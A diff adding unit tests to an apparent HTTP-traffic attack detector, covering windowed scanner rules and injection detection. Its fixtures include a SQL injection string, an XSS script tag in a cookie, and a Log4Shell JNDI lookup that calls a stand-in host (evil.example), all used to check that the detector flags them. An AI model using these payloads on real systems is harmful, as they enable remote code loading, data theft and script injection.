@@ -46,6 +46,32 @@ describe('method/status dispatch', () => {
   });
 });
 
+describe('window key states', () => {
+  // Distinct paths per actor within a minute; a key's state is dropped once idle and then reused.
+  const rule = {
+    id: 't.burst', kind: 'window' as const, category: 'scanner' as const, severity: 'medium' as const, confidence: 0.8, title: 'burst', evidence: '{distinct}',
+    enabled: true, source: 'test', filter: null, key: ['actor' as const], windowMs: 60_000, bucket: null, distinctOf: 'path', distinctOf2: null, ratioOf: null, threshold: { distinct: 4 },
+  };
+  const at = (s: number, ip: string, path: string, id: number) => toStored({ time: Date.UTC(2026, 0, 1) + s * 1000, ip, url: `https://a.example${path}` }, id);
+
+  it('start empty when reused: an idle actor\'s requests never count for the next one', () => {
+    const list = [at(0, '198.51.100.1', '/a', 1), at(1, '198.51.100.1', '/b', 2), at(2, '198.51.100.1', '/c', 3)];
+    // Keep the traffic clock moving (sweeps) until the first actor's state is dropped, with other actors.
+    let id = 4;
+    for (let s = 10; s <= 300; s += 10) list.push(at(s, `198.51.100.${100 + (s % 7)}`, '/x', id++));
+    // A new actor with three distinct paths: under the threshold of four, whatever state it reuses.
+    for (const [s, p] of [[301, '/d'], [302, '/e'], [303, '/f']] as const) list.push(at(s, '198.51.100.2', p, id++));
+    // The first actor again, with one path: its old window has long expired.
+    list.push(at(304, '198.51.100.1', '/g', id++));
+    const findings = detectExchanges(list, { name: 't', rules: [rule] });
+    expect(findings).toEqual([]);
+    // Four distinct paths within the window still fire, on a reused state too.
+    list.push(at(305, '198.51.100.2', '/h', id));
+    const fired = detectExchanges(list, { name: 't', rules: [rule] });
+    expect(fired.map((f) => [f.actor.ip, f.requestCount])).toEqual([['198.51.100.2', 4]]);
+  });
+});
+
 describe('shared per-string work', () => {
   const ex = (c: Partial<CompactExchange> & { url: string }, id: number) => toStored({ time: Date.UTC(2026, 0, 1, 10, 0, id), ip: `203.0.113.${id}`, ...c }, id);
 
@@ -67,6 +93,36 @@ describe('shared per-string work', () => {
     const first = detectExchanges(a.exchanges, pack, { spec: a.spec });
     detectExchanges(generateTraffic({ seed: 22, users: 15, durationMs: 3600_000, incidents: true }).exchanges, pack, { spec: a.spec });
     expect(detectExchanges(a.exchanges, pack, { spec: a.spec })).toEqual(first);
+  });
+
+  it('reports a payload in a header, cookie or body however clean the shared path, query and headers are', () => {
+    const ua = 'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/121.0';
+    const list = [
+      // Clean exchanges first: their shared path/query/header scans are remembered as hit-free.
+      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': 'abc' } }, 1),
+      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': 'abc' }, method: 'POST', reqBody: { name: 'lamp' } }, 2),
+      // The same shared strings with a payload elsewhere.
+      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': 'abc' }, method: 'POST', reqBody: { name: "x' OR '1'='1" } }, 3),
+      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': '${jndi:ldap://evil.example/a}' } }, 4),
+      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': 'abc', cookie: 'sid=1; pref=<script>alert(1)</script>' } }, 5),
+      // And the hostile header again, now from its shared (remembered) list.
+      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': '${jndi:ldap://evil.example/a}' } }, 6),
+      ex({ url: 'https://a.example/api/items?page=1', reqHeaders: { 'user-agent': ua, 'x-trace': 'abc' } }, 7),
+    ];
+    const findings = detectExchanges(list, pack);
+    const rules = (id: number) => findings.filter((f) => f.requestIds.includes(id) && f.category === 'injection').map((f) => f.rule).sort();
+    expect(rules(1)).toEqual([]);
+    expect(rules(2)).toEqual([]);
+    expect(rules(3)).toEqual(['injection.sqli']);
+    expect(rules(4)).toContain('injection.log4j');
+    expect(rules(5)).toEqual(['injection.xss']);
+    expect(rules(6)).toContain('injection.log4j');
+    expect(rules(7)).toEqual([]);
+    // Each exchange alone (fresh views, nothing shared from the others) gives the same verdicts.
+    for (const e of list) {
+      const alone = detectExchanges([e], pack).filter((f) => f.category === 'injection').map((f) => f.rule).sort();
+      expect(alone, `exchange ${e.id}`).toEqual(rules(e.id));
+    }
   });
 
   it('answers spec look-ups per method and path, remembered or not', () => {
